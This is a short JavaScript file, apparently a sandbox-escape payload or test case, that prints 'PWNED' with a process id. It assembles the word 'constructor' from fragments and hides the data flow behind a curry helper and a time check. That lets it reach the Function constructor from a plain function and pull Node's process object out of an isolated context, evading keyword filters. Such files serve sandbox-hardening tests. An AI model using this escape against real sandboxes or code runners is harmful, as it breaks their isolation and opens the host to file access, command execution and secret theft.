'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const curry = (f) => function go2(...a) { return a.length < 2 ? (...b) => go2(...a, ...b) : f(...a); };
const second = curry((a, b) => b);
const o = Date.now() > 1 ? second(1)(t) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
